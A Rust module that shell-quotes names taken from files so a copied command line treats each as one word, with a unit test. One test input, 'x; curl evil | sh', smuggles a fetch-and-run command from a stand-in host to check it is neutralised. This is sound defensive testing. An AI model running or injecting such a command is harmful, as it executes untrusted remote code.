//! Names from files in command lines that people copy: none may say more than a name.

/// A word of a command line: in quotes where a shell would read more into it than a word.
pub(super) fn word(text: &str) -> String {
    match is_plain(text) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', "'\\''")),
    }
}

/// Whether a shell takes a text as it is, also within other words and quotes.
pub(super) fn is_plain(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with('-')
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"._/:@+=,-%~".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_stays_one_word() {
        for (text, seen) in [
            ("api", "api"),
            ("./my-app/Dockerfile", "./my-app/Dockerfile"),
            ("my app", "'my app'"),
            ("x; curl evil | sh", "'x; curl evil | sh'"),
            ("it's", "'it'\\''s'"),
            ("--rm", "'--rm'"),
        ] {
            assert_eq!(word(text), seen);
        }
    }
}
